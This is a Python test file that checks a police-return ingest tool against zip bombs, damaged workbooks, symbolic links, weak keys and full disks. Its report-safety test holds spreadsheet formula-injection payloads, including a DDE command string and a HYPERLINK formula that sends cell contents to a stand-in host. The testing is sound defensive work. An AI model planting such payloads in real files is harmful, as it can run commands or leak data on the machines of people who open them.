"""Returns as they really arrive, and as an attacker would send them (issue 18), with real files.

Kinds: bounded reading (stray cell in XFD1048576, a zip bomb, a bomb that lies about its size, very long values,
row and column limits), damaged files (cut short, bad CRC), no silent change of meaning (years typed as numbers,
serials with a time of day, dates outside the window, non-ASCII digits, Excel's sep= line), safe reports (formula
triggers, long values, pseudonymised returns), folder safety (same or nested folders, symbolic links) and storage
faults (a full or read-only output folder, on a real tmpfs). Each check has a negative control: the other forces
of the same ingest pass, and input files are unchanged.
"""

from __future__ import annotations

import csv
import os
import re
import resource
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from analysis import returns_io
from analysis.cli import main
from analysis.ingest import ingest_directory
from analysis.ingest.folders import FolderError
from analysis.ingest.limits import load_limits
from analysis.ingest.pseudonymise import PseudonymisationError, check_key
from analysis.ingest.issues import ReadError
from analysis.ingest.read import read_csv_file
from analysis.ingest.safe import FORMULA_TRIGGERS, WITHHELD, neutralise
from fixtures.disks import small_tmpfs
from fixtures.files import file_hashes
from fixtures.valid_return import as_force

from . import hostile
from .helpers import edit_xlsx, errors, normalisations, write_csv_folder, write_xlsx

LIMITS = load_limits()
ADDRESS_SPACE = 2 * 1024**3  # the issue's acceptance: every hostile input ingested under 2 GB of address space


def _ingest(returns: Path, tmp_path: Path, **kwargs):
    results = ingest_directory(returns, tmp_path / "out", tmp_path / "reports", **kwargs)
    return {r.name: r for r in results}


def _limit_address_space() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))


# ------------------------------------------------------------------------------------------------------------------
# 1. Bounded reading, under a 2 GB address-space limit, in a real `python -m analysis ingest` process


def test_hostile_workbooks_are_read_or_refused_within_2gb(tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    base = write_xlsx(returns, "SYN01").read_bytes()  # SYN01: a valid return, the negative control
    spare = tmp_path / "spare"
    spare.mkdir()
    hostile.write(returns / "SYN02.xlsx", hostile.stray_cell(write_xlsx(spare, "SYN02").read_bytes(), " "))
    hostile.write(returns / "SYN03.xlsx", hostile.zip_bomb(base))
    hostile.write(returns / "SYN04.xlsx", hostile.zip_bomb(base, declared=100_000))
    hostile.write(returns / "SYN05.xlsx", hostile.stray_cell(base, "x"))
    tables = as_force("SYN06")
    tables["case_notes"].loc[0, "text"] = "Victim-centred note. " * 6700  # 140,700 characters in one CSV field
    write_csv_folder(returns, "SYN06", tables)
    before = file_hashes(returns)
    done = subprocess.run([sys.executable, "-m", "analysis", "ingest", "--returns", str(returns), "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, preexec_fn=_limit_address_space, timeout=600)
    assert done.returncode == 1, done.stderr
    reports = tmp_path / "out_reports"
    status = pd.read_csv(reports / "summary.csv", dtype=str).set_index("force")["status"].to_dict()
    assert status == {"SYN01": "passed", "SYN02": "passed", "SYN03": "failed", "SYN04": "failed", "SYN05": "failed", "SYN06": "passed"}
    bomb = errors(reports, "SYN03")
    assert bomb[["rule"]].values.tolist() == [["too_large"]]
    part = "xl/worksheets/sheet6.xml"
    assert bomb["message"][0].startswith(f"SYN03.xlsx: the part {part} once uncompressed (as declared) is 1 GiB, more than "
                                         "the limit of 256 MiB (ingest.max_part_mb in params/pipeline.yaml); it was not read.")
    liar = errors(reports, "SYN04")
    assert liar["rule"].tolist() == ["damaged"]
    assert liar["message"][0].startswith(f"SYN04.xlsx is damaged or incomplete (the part {part} fails its check")
    assert "ask the force to send it again" in liar["message"][0]
    stray = errors(reports, "SYN05")
    assert stray[["rule", "message"]].values.tolist() == [[
        "too_large", "SYN05.xlsx: sheet offences, cell XFD1048576 has a value in column 16,384, beyond the limit of 200 "
                     "columns (ingest.max_columns in params/pipeline.yaml); the file was not read. Delete anything to the "
                     "right of the table and send it again."]]
    assert returns_io.read_force(tmp_path / "out", "SYN06")["case_notes"]["text"][0] == tables["case_notes"]["text"][0]
    assert len(returns_io.read_force(tmp_path / "out", "SYN02")["offences"]) == len(as_force("SYN02")["offences"])
    assert file_hashes(returns) == before


def test_declared_ratio_of_a_part_is_checked(tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    base = write_xlsx(returns, "SYN01").read_bytes()
    hostile.write(returns / "SYN02.xlsx", hostile.zip_bomb(base, inflated_mib=64))  # under the size limits
    found = _ingest(returns, tmp_path)
    assert found["SYN01"].passed
    (issue,) = found["SYN02"].issues
    assert issue.rule == "too_large"
    assert "compression ratio of the part xl/worksheets/sheet6.xml" in issue.message
    assert "more than the limit of 200 to 1 (ingest.max_compression_ratio" in issue.message


def test_row_limit_names_the_row_and_the_limit(tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    write_csv_folder(returns, "SYN02")
    found = _ingest(returns, tmp_path, limits=LIMITS.replace(max_rows=3))
    assert [(i.rule, i.message) for i in found["SYN01"].issues] == [(
        "too_large", "SYN01.xlsx: sheet offences, cell A4 has a value on row 4, beyond the limit of 3 rows (ingest.max_rows "
                     "in params/pipeline.yaml); the file was not read. Delete anything below the table and send it again.")]
    assert ("too_large", "offences.csv: row 4 has values, beyond the limit of 3 rows (ingest.max_rows in params/pipeline.yaml); "
                         "the file was not read.") in [(i.rule, i.message) for i in found["SYN02"].issues]


def test_a_csv_value_beyond_the_limit_is_refused_with_its_row(tmp_path):
    returns = tmp_path / "returns"
    tables = as_force("SYN01")
    tables["case_notes"].loc[1, "text"] = "x" * 140_000
    write_csv_folder(returns, "SYN01", tables)
    found = _ingest(returns, tmp_path, limits=LIMITS.replace(max_cell_chars=100_000))
    assert [(i.sheet, i.rule, i.message) for i in found["SYN01"].issues] == [(
        "case_notes", "too_large", "case_notes.csv: row 3 has a value longer than the limit of 100,000 characters "
        "(ingest.max_cell_chars in params/pipeline.yaml); the file was not read. If the value is complete and meant, the "
        "inspection team can raise the limit; a value this long can also be a quotation mark that was never closed.")]


def test_an_unclosed_quote_names_its_row(tmp_path):
    path = tmp_path / "networks.csv"
    path.write_text('force_code,network_id,identified_date,cocad_category\nSYN01,N1,2021-06-01,cse\nSYN01,"N2,2021-06-01,cse\n')
    with pytest.raises(ReadError) as caught:
        read_csv_file(path)
    assert (caught.value.rule, caught.value.message) == ("unreadable", (
        "networks.csv is not valid CSV: row 3 cannot be read (unexpected end of data); check that row for an unclosed or "
        "stray quotation mark."))


@pytest.mark.parametrize("value", ["=1+1", "+44 20", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_follows_owasp(value):
    assert neutralise(value) == "'" + value
    assert neutralise("V1 " + value) == "V1 " + value and neutralise(3) == 3


# ------------------------------------------------------------------------------------------------------------------
# 2. Damaged files


def test_damaged_workbooks_are_described_as_damaged(tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    base = write_xlsx(returns, "SYN01").read_bytes()
    hostile.write(returns / "SYN02.xlsx", hostile.truncated(base))
    hostile.write(returns / "SYN03.xlsx", hostile.bad_crc(base))
    before = file_hashes(returns)
    found = _ingest(returns, tmp_path)
    assert found["SYN01"].passed
    for code in ("SYN02", "SYN03"):
        (issue,) = found[code].issues
        assert issue.rule == "damaged"
        assert issue.message.startswith(f"{code}.xlsx is damaged or incomplete (")
        assert "ask the force to send it again" in issue.message
        assert "not a spreadsheet" not in issue.message and "fault in the software" not in issue.message
    assert "it starts as a workbook but its end is missing" in found["SYN02"].issues[0].message
    assert "fails its check: Bad CRC-32" in found["SYN03"].issues[0].message
    assert file_hashes(returns) == before


# ------------------------------------------------------------------------------------------------------------------
# 3. No silent change of meaning


def _numbers(path: Path, edits: list[tuple[str, int, str, float]]) -> None:
    """Type numbers into cells as a person does in a cell formatted General (no date format)."""
    import openpyxl

    from analysis.template import save_workbook

    wb = openpyxl.load_workbook(path)
    for sheet, row, column, value in edits:
        ws = wb[sheet]
        cell = ws.cell(row=row, column=[c.value for c in ws[1]].index(column) + 1, value=value)
        cell.number_format = "General"
    save_workbook(wb, path)


def test_numbers_in_date_cells_are_read_only_as_plausible_serials(tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    path = edit_xlsx(write_xlsx(returns, "SYN01"), [
        ("suspects", 2, "first_arrest_date", "1905-07-15"),  # a date typed as text long before the return period
        ("suspects", 3, "first_arrest_date", pd.Timestamp("1905-07-15").to_pydatetime()),  # a date cell showing 1905
    ])
    _numbers(path, [("networks", 2, "identified_date", 2023),    # a year typed as a number: 1905-07-15 as a serial
                    ("networks", 3, "identified_date", 44317),   # a whole serial inside the window: 2021-05-01
                    ("offences", 2, "recorded_date", 44378.5)])  # a serial with a time of day
    write_xlsx(returns, "SYN02")
    found = _ingest(returns, tmp_path)
    assert found["SYN02"].passed
    got = {(i.sheet, i.row, i.column): (i.rule, i.message) for i in found["SYN01"].issues}
    assert got[("networks", 2, "identified_date")] == ("type", (
        "networks row 2, column identified_date: the cell holds the number 2023, which as an Excel date would be 1905-07-15, "
        "outside the dates this return can hold (2001-04-01 to 2024-05-15, from force_profile's period_start and "
        "extraction_date): it is not read as a date (a year typed as a number? enter the full date); enter the date as YYYY-MM-DD."))
    assert got[("offences", 2, "recorded_date")] == ("type", (
        "offences row 2, column recorded_date: the cell holds the number 44378.5 (as an Excel date and time: 2021-07-01 12:00), "
        "a date with a time of day or not a date at all; this column takes a date only: enter the date as YYYY-MM-DD without a time."))
    for row in (2, 3):
        assert got[("suspects", row, "first_arrest_date")] == ("date_range", (
            f"suspects row {row}, column first_arrest_date: '1905-07-15' is more than 20 years before the return period starts "
            "(2021-04-01), earlier than any date this return can hold (2001-04-01; ingest.years_before_period): check the date "
            "(a year typed as a number in a date cell reads as a date in 1905)"))
    assert ("networks", 3, "identified_date") not in got  # 44317 read as 2021-05-01 and reported as a correction
    notes = normalisations(tmp_path / "reports", "SYN01")
    serial = notes[notes["normalisation"] == "Excel date serial number written as YYYY-MM-DD"]
    assert serial[["column", "example_before", "example_after"]].values.tolist() == [["identified_date", "44317 (Excel number cell)", "2021-05-01"]]
    assert len(found["SYN01"].issues) == 4  # each reported once, not again by validation


def test_non_ascii_digits_are_reported_not_taken_as_another_force(tmp_path):
    returns = tmp_path / "returns"
    tables = as_force("SYN01")
    tables["offences"].loc[1, "force_code"] = "SYN\u0660\u0661"  # Arabic-Indic digits zero and one
    tables["victims"].loc[0, "missing_episodes"] = "\uff11\uff12"  # full-width 12
    write_csv_folder(returns, "SYN01", tables)
    write_csv_folder(returns, "SYN02")
    found = _ingest(returns, tmp_path)
    assert found["SYN02"].passed
    got = [(i.sheet, i.row, i.column, i.rule, i.message) for i in found["SYN01"].issues]
    assert ("offences", 3, "force_code", "type",
            "offences row 3, column force_code: 'SYN\u0660\u0661' uses the character '\u0660' (ARABIC-INDIC DIGIT ZERO), not an "
            "ASCII digit 0-9 or letter: an identifier must be typed with the digits 0-9 (non-Latin and full-width digits "
            "would make one reference into two)") in got
    assert ("victims", 2, "missing_episodes", "type",
            "victims row 2, column missing_episodes: '\uff11\uff12' uses the character '\uff11' (FULLWIDTH DIGIT ONE), not an "
            "ASCII digit 0-9 or letter: a whole number must be typed with the digits 0-9 (non-Latin and full-width digits "
            "would make one reference into two)") in got
    assert not any(i.rule in ("internal_error", "two_forces") for i in found["SYN01"].issues)


def test_excel_sep_line_is_recognised_and_reported(tmp_path):
    returns = tmp_path / "returns"
    folder = write_csv_folder(returns, "SYN01")
    path = folder / "networks.csv"
    path.write_text("sep=;\n" + path.read_text().replace(",", ";"))
    found = _ingest(returns, tmp_path)
    assert found["SYN01"].passed, found["SYN01"].issues
    notes = normalisations(tmp_path / "reports", "SYN01")
    assert notes.loc[notes["table"] == "networks", ["normalisation", "rows_affected"]].values.tolist() == [
        ["Excel's first line 'sep=;' read as the separator and not as a record", "1"],
        ["values separated by ';' read as columns", str(len(as_force("SYN01")["networks"]))]]


# ------------------------------------------------------------------------------------------------------------------
# 4. Safe reports


def _every_cell(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_report_cells_never_start_a_formula_and_long_values_are_cut(tmp_path):
    returns = tmp_path / "returns"
    tables = as_force("SYN01")
    tables["disruptions"].loc[0, "tactic"] = '=HYPERLINK("http://example.invalid/?x="&A1,"fix")'
    tables["victims"].loc[0, "sex"] = "@SUM(1+1)"
    tables["offences"].loc[0, "report_source"] = "+cmd|' /C calc'!A0"
    tables["offences"].loc[1, "report_source"] = "-2+3"
    tables["networks"].loc[0, "cocad_category"] = "Z" * 40_000
    write_csv_folder(returns, "SYN01", tables)
    write_csv_folder(returns, "SYN02")
    found = _ingest(returns, tmp_path)
    assert found["SYN02"].passed
    reports = tmp_path / "reports"
    for name in ("SYN01/errors.csv", "SYN01/normalisations.csv", "summary.csv"):
        cells = _every_cell(reports / name)
        assert cells and not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], name
    found_errors = errors(reports, "SYN01")
    values = set(found_errors["value"])
    assert {"'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"fix\")", "'@SUM(1+1)", "'+cmd|' /C calc'!A0", "'-2+3"} <= values
    long = found_errors[found_errors["column"] == "cocad_category"].iloc[0]
    assert long["value"] == "Z" * 200 + "… [cut: 40,000 characters]"
    assert "Z" * 201 not in long["message"] and "… [cut: 40,000 characters]" in long["message"]
    assert (reports / "SYN01" / "errors.csv").stat().st_size < 20_000
    assert "Z" * 201 not in (reports / "SYN01" / "errors.md").read_text()


def test_pseudonymised_report_quotes_no_identifier_or_free_text(tmp_path):
    returns = tmp_path / "returns"
    tables = as_force("SYN01")
    secret_note = "Note naming Jane Roe at 1 Example Street"
    tables["case_notes"].loc[0, "text"] = " " + secret_note  # not corrected (free text is kept exactly)
    tables["victims"].loc[1, "victim_id"] = " SYN01-VICTIM-PRIVATE "  # a correction, and a broken link: both reported
    tables["suspects"].loc[0, "suspect_id"] = "SYN01-S-PRIVATE"  # an identifier in a failing row
    tables["offence_suspects"].loc[0, "suspect_id"] = "SYN01-S-MISSING"  # a foreign key that fails
    tables["case_notes"].loc[1, "author_role"] = "not-a-role"  # a code value may be quoted
    write_csv_folder(returns, "SYN01", tables)
    found = _ingest(returns, tmp_path, key=b"correct horse battery staple 42")
    assert not found["SYN01"].passed
    text = "".join(p.read_text(encoding="utf-8") for p in (tmp_path / "reports").rglob("*") if p.is_file())
    for secret in ("VICTIM-PRIVATE", "S-PRIVATE", "S-MISSING", "Jane Roe"):
        assert secret not in text, secret
    table = errors(tmp_path / "reports", "SYN01")
    fk = table[(table["sheet"] == "offence_suspects") & (table["column"] == "suspect_id")].iloc[0]
    assert (fk["row"], fk["value"]) == ("2", WITHHELD)
    assert fk["message"] == f"offence_suspects row 2, column suspect_id: '{WITHHELD}' is not a suspect_id in the suspects table"
    assert "'not-a-role' is not a code in the list author_roles" in " ".join(table["message"])


# ------------------------------------------------------------------------------------------------------------------
# 5. Folder safety


@pytest.mark.parametrize("layout", ["out=returns", "reports=returns", "out inside returns", "returns inside out",
                                    "reports inside out", "out inside reports"])
def test_same_or_nested_folders_are_refused_before_anything_is_written(tmp_path, layout, capsys):
    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    out, reports = tmp_path / "out", tmp_path / "reports"
    if layout == "out=returns":
        out = returns
    elif layout == "reports=returns":
        reports = returns / "."
    elif layout == "out inside returns":
        out = returns / "validated"
    elif layout == "returns inside out":
        out = tmp_path
    elif layout == "reports inside out":
        reports = out / "reports"
    else:
        out = reports / "validated"
    before = file_hashes(tmp_path)
    code = main(["ingest", "--returns", str(returns), "--out", str(out), "--reports", str(reports)])
    assert code == 2
    printed = capsys.readouterr().out
    assert "must be three separate folders, none inside another" in printed and "Nothing was read or written." in printed
    assert file_hashes(tmp_path) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["returns"]


def test_symbolic_links_out_of_the_returns_folder_are_refused(tmp_path):
    outside = tmp_path / "elsewhere"
    elsewhere = write_csv_folder(outside, "SYN03")
    secret = outside / "secret.csv"
    secret.write_text("force_code,network_id,identified_date,cocad_category\nOUTSIDE-LINE,N9,2021-06-01,cse\n")
    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    (returns / "SYN03").symlink_to(elsewhere, target_is_directory=True)
    folder = write_csv_folder(returns, "SYN02")
    (folder / "networks.csv").unlink()
    (folder / "networks.csv").symlink_to(secret)
    inside = write_csv_folder(returns, "SYN04")  # a real folder inside: read
    before = file_hashes(outside)
    found = _ingest(returns, tmp_path)
    assert found["SYN01"].passed and found["SYN04"].passed and inside.is_dir()
    assert [(i.rule, i.message) for i in found["SYN03"].issues] == [(
        "symlink", "SYN03 is a symbolic link to a place outside the returns folder: it was not followed. Copy the return "
                   "itself into the returns folder.")]
    assert [(i.rule, i.sheet) for i in found["SYN02"].issues] == [("symlink", "networks")]
    report = "".join(p.read_text() for p in (tmp_path / "reports").rglob("*") if p.is_file())
    assert "OUTSIDE-LINE" not in report
    assert file_hashes(outside) == before


# ------------------------------------------------------------------------------------------------------------------
# 6. Keys (see also test_pseudonymise.py) and storage faults on a real file system


@pytest.mark.parametrize(("key", "words"), [
    (b" " * 16, "is only white space (16 characters)"),
    (b"\xff\xfe" + b"k" * 20, "is not valid UTF-8 text"),
    (b"aaaaaaaaaaaaaaaaaaaaaaaa", "has only 1 different characters"),
    (b"passwordpassword", "has only 7 different characters"),
    (b"short-key", "is 9 bytes long; use at least 16"),
    (b"correct horse battery staple 42\n", "begins or ends with white space"),
])
def test_weak_or_unreadable_keys_are_refused(key, words):
    with pytest.raises(PseudonymisationError, match=re.escape(words)):
        check_key(key)
    if key.isascii():
        with pytest.raises(PseudonymisationError, match=re.escape(words)):
            check_key(key.decode())  # as text, the way the environment usually hands it over
    assert check_key(b"correct horse battery staple 42") == b"correct horse battery staple 42"


def test_a_key_that_is_not_utf8_is_refused_by_the_command(tmp_path):
    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    env = {k: v for k, v in os.environb.items() if k != b"CSE_PSEUDONYM_KEY"}
    env[b"CSE_PSEUDONYM_KEY"] = b"\xff\xfe" + b"0123456789abcdef"
    done = subprocess.run([sys.executable, "-m", "analysis", "ingest", "--returns", str(returns), "--out",
                           str(tmp_path / "out"), "--pseudonymise"], env=env, capture_output=True, text=True, timeout=300)
    assert done.returncode == 2, done.stdout + done.stderr
    assert done.stdout.startswith("error: the key in CSE_PSEUDONYM_KEY is not valid UTF-8 text")
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "out").exists()


@pytest.fixture
def small_disk(tmp_path):
    """A real 3 MiB tmpfs mounted for the test."""
    with small_tmpfs(tmp_path / "disk", 3) as mount:
        yield mount


def test_full_output_disk_is_reported_plainly_and_leaves_nothing_half_written(tmp_path, small_disk):
    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    write_xlsx(returns, "SYN02")
    (small_disk / "filler").write_bytes(b"\0" * (3 * 1024 * 1024 - 40 * 1024))  # leave 40 KiB free
    found = ingest_directory(returns, small_disk / "out", tmp_path / "reports")
    for result in found:
        assert [(i.rule, i.message) for i in result.issues] == [(
            "storage", f"the validated data of {result.name} could not be written to {small_disk / 'out'}: the disk is full "
                       "(no space left on the device). Nothing was written for this force (earlier validated data, if any, "
                       "is unchanged); free space or fix the folder's permissions and run ingest again.")]
    assert list((small_disk / "out").iterdir()) == []  # no half-written force folder, no temporary folder


def test_read_only_output_folder_is_refused_before_reading(tmp_path, small_disk, capsys):
    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
    code = main(["ingest", "--returns", str(returns), "--out", str(small_disk / "out"), "--reports", str(tmp_path / "reports")])
    assert code == 2
    printed = capsys.readouterr().out
    assert printed.startswith(f"error: cannot write to the --out folder {small_disk / 'out'}: the folder is on a read-only "
                              "file system. Nothing was read or written")
    assert not (tmp_path / "reports").exists()
    with pytest.raises(FolderError):
        ingest_directory(returns, small_disk / "out", tmp_path / "reports")


def test_a_validated_file_tampered_after_ingest_is_not_copied_into_run_state(tmp_path):
    from analysis.pipeline.run_force import INVALID, NotebookTask, run_notebook_task

    returns = tmp_path / "returns"
    returns.mkdir()
    write_xlsx(returns, "SYN01")
    assert _ingest(returns, tmp_path)["SYN01"].passed
    path = tmp_path / "out" / "SYN01" / "victims.parquet"
    victims = pd.read_parquet(path)
    victims.loc[0, "victim_id"] = "=HYPERLINK(\"http://example.invalid\") TAMPERED-VALUE"
    victims.to_parquet(path, index=False)
    outcome = run_notebook_task(NotebookTask(unit="SYN01", notebook=str(tmp_path / "none.ipynb"), parameters={},
                                             staging_dir=str(tmp_path / "staging"), provenance={}, data_dir=str(tmp_path / "out")))
    assert outcome.status == INVALID
    assert "TAMPERED" not in outcome.validation and "HYPERLINK" not in outcome.validation
    assert "victims row 2, column victim_id: rule consistency" in outcome.validation
